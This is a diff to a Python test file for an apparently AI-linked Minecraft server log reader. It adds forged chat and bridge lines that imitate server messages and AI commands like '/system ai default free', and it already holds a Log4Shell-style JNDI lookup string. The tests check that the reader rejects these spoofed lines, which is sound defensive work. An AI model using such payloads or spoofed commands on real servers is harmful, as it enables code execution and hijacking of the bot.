@@ -103,6 +103,30 @@ ATTACKS: Final = {
         "<${jndi:ldap://192.0.2.1/a}> @ai /quest",
     ),
 }
+# Printed as they are, without who said them: by a chat plugin, or by a bridge to another service.
+BARE: Final = (
+    "Ghost joined the game",
+    "Mara left the game",
+    "Ghost[/192.0.2.1:5] logged in with entity id 7 at (0.0, 0.0, 0.0)",
+    "UUID of player Teo is 6f0c2d7e-53b1-4a9d-9c1e-2b7a40d1e5f3",
+    "Stopping server",
+    "Starting minecraft server version 1.12.2",
+    "Booting up Velocity 3.3.0",
+    "Reloading!",
+    CALL,
+    SIGNED,
+    "Unknown or incomplete command, see below for error",
+    "system ai default free<--[HERE]",
+    "Mara issued server command: /system ai default free",
+    f"[Mara] {ORDER}",
+    f"[Teo] <Mara> {ORDER}",
+)
+THREADS: Final = {
+    "Async Chat Thread - #1": BARE,
+    "Netty Server IO #2": BARE,
+    "JDA MainWS-ReadThread": (*BARE, f"<Mara> {ORDER}", "<Mara> @ai /quest", f"* Mara {ORDER}"),
+    "Craft Scheduler Thread - 3 - Bridge": (*BARE, f"<Mara> {ORDER}"),
+}
 HEADER_LESS: Final = (
     f"<Mara> {ORDER}",
     "Ghost joined the game",
@@ -165,6 +189,14 @@ async def test_the_attack_is_not_accepted(game: Game, row: str) -> None:
     await game.server.join("Teo")
     prepare(game, row)
     assert await accepted(game, tuple(f"{HEADER}{line}" for line in ATTACKS[row])) == []
+
+
+@pytest.mark.parametrize("thread", THREADS)
+async def test_bare_words_of_players_or_of_outsiders_are_nothing(game: Game, thread: str) -> None:
+    await game.server.join("Teo")
+    lines = tuple(f"[12:00:00] [{thread}/INFO]: {line}" for line in THREADS[thread])
+    complaint = f"{HEADER}Unknown or incomplete command, see below for error"
+    assert await accepted(game, (*lines, complaint, *lines)) == []
 
 
 async def test_lines_without_a_header_are_nothing(game: Game) -> None:
